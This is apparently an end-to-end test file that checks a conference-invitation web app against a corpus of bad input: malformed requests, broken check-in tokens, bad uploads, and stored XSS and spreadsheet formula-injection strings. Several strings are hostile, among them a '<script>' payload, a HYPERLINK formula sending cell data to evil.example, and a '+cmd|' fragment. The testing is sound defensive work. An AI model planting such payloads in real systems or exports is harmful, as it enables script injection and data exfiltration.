import { returnedRow, firstRow, writerForSetup } from "@/db/client";
/**
 * The bad-input corpus (e2e/corpus, committed), against the running server: malformed and
 * oversized requests, tokens of every broken shape, files that are mis-encoded, truncated,
 * not what they claim, empty, huge or hostile, text that is HTML or a formula, impossible
 * dates. Each gets a clear 4xx or message, never a 500; nothing is saved half-way; what is
 * stored is shown escaped in pages and letters, and neutralised in CSV and XLSX.
 */
import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { and, count, eq, inArray } from "drizzle-orm";
import { bodies, campaigns, conferences, importBatches, invitations, people, scanLog, sites, units } from "@/db/schema";
import { MAX_BYTES } from "@/lib/people/import/parse-file";
import { e2eDb, expect, practiceConference, signIn, test, testUnitKind } from "./fixtures";

const CORPUS = path.join(process.cwd(), "e2e", "corpus");
const read = <T>(name: string) => JSON.parse(fs.readFileSync(path.join(CORPUS, name), "utf8")) as T;

test.describe("the bad-input corpus", () => {
  test("hostile requests get a clear 4xx with a message, never a 500", async ({ page }) => {
    // As the admin: every request reaches the input checks, none stops at permissions.
    await signIn(page, "admin");
    for (const [method, url, contentType, body, expected] of read<[string, string, string, string, number[]][]>("requests.json")) {
      const response = await page.request.fetch(url, {
        method,
        headers: contentType ? { "content-type": contentType } : {},
        data: body || undefined,
        maxRedirects: 0,
      });
      const label = `${method} ${url.slice(0, 60)} ${body.slice(0, 40)}`;
      expect(expected, label).toContain(response.status());
      if (response.status() >= 400 && response.headers()["content-type"]?.includes("json")) expect((await response.json()).message, label).toBeTruthy();
    }
  });

  test("broken tokens at the door: a verdict each, logged, nobody let in", async ({ page }) => {
    const { site } = await practiceConference();
    await signIn(page, "diemdanh");
    const before = (await firstRow((await e2eDb()).select({ n: count() }).from(scanLog).where(eq(scanLog.deviceId, "may-hong"))))!.n;
    const tokens = read<string[]>("tokens.json");
    let logged = 0;
    for (const [i, token] of tokens.entries()) {
      const response = await page.request.post("/api/checkin", {
        data: { token, siteId: site.id, deviceId: "may-hong", nonce: `hong-${i}-${Date.now()}`, scannedAt: Date.now(), method: "hardware" },
      });
      if (token.length > 400) {
        // Too long for the schema (400), or for the body limit (413).
        expect([400, 413], `${token.length} characters`).toContain(response.status());
        continue;
      }
      expect(response.status(), JSON.stringify(token.slice(0, 20))).toBe(200);
      expect(["unknown", "bad_signature"]).toContain((await response.json()).verdict);
      logged++;
    }
    expect(
      (await firstRow(
        (await e2eDb())
          .select({ n: count() })
          .from(scanLog)
          .where(and(eq(scanLog.deviceId, "may-hong"), inArray(scanLog.verdict, ["unknown", "bad_signature"]))),
      ))!.n - before,
    ).toBe(logged);
  });

  test("files: mis-encoded, truncated, fake, empty, binary and huge are refused with a message and nothing saved; hostile text is stored as text and shown escaped and neutralised", async ({
    page,
  }) => {
    test.setTimeout(60_000); // thirteen uploads, then five pages and two exports: ~30 s on a busy 2-core machine
    await signIn(page, "admin");
    const db = await e2eDb();
    const code = `bi${process.pid}${Date.now() % 100000}`;
    const province = (await firstRow(db.select().from(units).where(eq(units.code, "51"))))!;
    const unit = await returnedRow(
      writerForSetup(db)
        .insert(units)
        .values({ code, name: `Đơn vị dữ liệu xấu ${code}`, kind: await testUnitKind(), placeName: "Thử", parentId: province.id, sortOrder: 997 })
        .returning(),
    );
    const peopleIn = async () => (await firstRow(db.select({ n: count() }).from(people).where(eq(people.unitId, unit.id))))!.n;
    const expectations = read<Record<string, { expect: "refused" | "accepted"; rows?: number; message?: string }>>("files.json");
    const upload = (name: string, buffer: Buffer) =>
      page.request.post("/api/people/import", {
        multipart: {
          file: { name, mimeType: name.endsWith(".xlsx") ? "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" : "text/csv", buffer },
          unitId: String(unit.id),
        },
      });

    for (const [name, want] of Object.entries(expectations)) {
      const response = await upload(name, fs.readFileSync(path.join(CORPUS, "files", name)));
      const body = await response.json();
      if (want.expect === "refused") {
        expect(response.status(), name).toBe(400);
        expect(body.message, name).toBeTruthy();
        if (want.message) expect(body.message, name).toContain(want.message);
        continue;
      }
      expect(response.status(), name).toBe(200);
      const commit = await page.request.post(`/api/people/import/${body.batchId}/commit`, { data: { mapping: body.mapping } });
      expect(commit.status(), name).toBe(200);
    }
    // Huge: refused before it is read.
    const huge = await upload("huge.csv", Buffer.alloc(MAX_BYTES + 1024 * 1024, "Nguyễn Văn A,Bí thư\n"));
    expect([400, 413]).toContain(huge.status());
    expect((await huge.json()).message).toBeTruthy();
    // A refused file keeps no batch either: only the accepted files' batches exist.
    expect((await firstRow(db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id))))!.n).toBe(
      Object.values(expectations).filter((w) => w.expect === "accepted").length,
    );
    const stored = await db.select().from(people).where(eq(people.unitId, unit.id));
    expect(stored).toHaveLength(Object.values(expectations).reduce((n, w) => n + (w.expect === "accepted" ? (w.rows ?? 0) : 0), 0));
    expect(stored.map((p) => p.fullName)).toEqual(expect.arrayContaining(["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")']));
    const before = await peopleIn();

    // The hostile strings as conference text too, then everyone invited and shown.
    const strings = read<string[]>("strings.json");
    const body = await returnedRow(
      writerForSetup(db).insert(bodies).values({ unitId: unit.id, kind: "propaganda", name: strings[0], symbol: "XSS" }).returning(),
    );
    const campaign = (await firstRow(db.select().from(campaigns)))!;
    const conference = await returnedRow(
      writerForSetup(db)
        .insert(conferences)
        .values({
          campaignId: campaign.id,
          unitId: unit.id,
          bodyId: body.id,
          title: `Hội nghị ${strings[1]}`,
          startsAt: new Date(Date.now() + 86_400_000),
          endsAt: new Date(Date.now() + 90_000_000),
          status: "scheduled",
          agenda: strings[2],
        })
        .returning(),
    );
    const site = await returnedRow(
      writerForSetup(db).insert(sites).values({ conferenceId: conference.id, unitId: unit.id, isMain: true, venue: strings[3] }).returning(),
    );
    for (const text of strings)
      await writerForSetup(db).insert(people).values({ fullName: text, searchName: text.toLowerCase(), position: text, workplace: text, unitId: unit.id });
    for (const p of await db.select().from(people).where(eq(people.unitId, unit.id))) {
      await writerForSetup(db)
        .insert(invitations)
        .values({ conferenceId: conference.id, personId: p.id, bodyId: body.id, siteId: site.id, status: "issued", letterNumber: "1-GM/XSS" });
    }
    let dialogs = 0;
    page.on("dialog", async (d) => {
      dialogs++;
      await d.dismiss();
    });
    for (const url of [
      `/conferences/${conference.id}`,
      `/conferences/${conference.id}/report`,
      `/conferences/${conference.id}/invitations`,
      `/conferences/${conference.id}/letters`,
      `/people?unit=${unit.id}`,
    ]) {
      const response = await page.goto(url);
      expect(response?.status(), url).toBe(200);
      await page.waitForLoadState("networkidle");
      // Nothing became markup: no injected element, and (below) no dialog ever opened.
      expect(await page.locator("img[src=x], svg[onload], body script:not([src]):not([nonce])").count(), url).toBe(0);
    }
    await page.goto(`/conferences/${conference.id}/report`);
    await expect(page.getByTestId("invitee-table")).toContainText("<script>alert('xss')</script>");
    expect(dialogs).toBe(0);

    // CSV: a cell that starts like a formula gets an apostrophe; XLSX: text cells, never formulas.
    const csv = await (await page.request.get(`/api/conferences/${conference.id}/report.csv`)).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""Bấm vào"")"`);
    expect(csv).toContain("'+cmd|");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await (await page.request.get(`/api/conferences/${conference.id}/report.xlsx`)).body()) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("Người được mời")!;
    let cells = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        cells++;
        expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
      }),
    );
    expect(cells).toBeGreaterThan(strings.length * 5);
    expect(await peopleIn()).toBe(before + strings.length);
  });

  test("impossible dates and hostile filters in URLs are ignored, not an error page", async ({ page }) => {
    await signIn(page, "admin");
    const response = await page.goto("/reports?from=31/02/2021&to=00/13/2021");
    expect(response?.status()).toBe(200);
    await expect(page.getByLabel("Từ ngày")).toHaveValue("");
    const audit = await page.goto("/admin/audit?from=29/02/2023&page=-5&entity=%3Cscript%3E");
    expect(audit?.status()).toBe(200);

    // The door refuses 31/02 (requests.json); the conference form says "Ngày không hợp lệ." (scheduling.spec.ts).
  });
});
